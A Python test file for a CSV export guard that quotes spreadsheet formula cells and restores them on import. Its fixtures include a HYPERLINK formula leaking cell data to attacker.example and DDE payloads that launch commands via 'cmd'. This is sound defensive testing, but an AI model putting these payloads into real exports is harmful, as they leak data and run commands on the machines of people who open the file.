"""CSV cells a spreadsheet reads as data: formula starts are quoted, and an import takes the quote off again."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.csv_cells import FormulaSafeWriter, neutralise_cell, restore_cell

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full report")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value",
    [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1"],
)
def test_a_cell_a_spreadsheet_would_run_gets_one_leading_quote(value):
    """Every cell starting with =, +, -, @, tab or carriage return is written with a quote in front, else unchanged."""
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-3.7", "-12", "+5", "-1.5e3", "Benghazi", "Q2429253", "", "a=b", "Sabratha - west"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    """A negative number stays a number, and text not starting with a formula character is untouched."""
    assert neutralise_cell(value) == value


def test_a_cell_already_quoted_gets_one_more_quote():
    """A value that itself begins with a quote before '=' keeps that quote through export and import."""
    assert neutralise_cell("'=1+1") == "''=1+1"
    assert restore_cell("''=1+1") == "'=1+1"


def test_restore_leaves_quotes_the_export_did_not_add():
    """Only a quote followed by a formula character is taken off; other leading quotes are kept."""
    assert restore_cell("'Tis the season") == "'Tis the season"
    assert restore_cell("-3.7") == "-3.7"


@given(st.text())
def test_restore_gives_back_exactly_what_was_neutralised(value):
    """Any text survives the round trip through neutralise_cell and restore_cell unchanged."""
    assert restore_cell(neutralise_cell(value)) == value


def test_writer_quotes_every_cell_it_writes():
    """The writer applies the rule to each cell of each row, and writes ordinary CSV otherwise."""
    out = io.StringIO()
    writer = FormulaSafeWriter(out)
    writer.writerow(["title", "longitude"])
    writer.writerows([[DDE, "-3.7"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["title", "longitude"], ["'" + DDE, "-3.7"]]
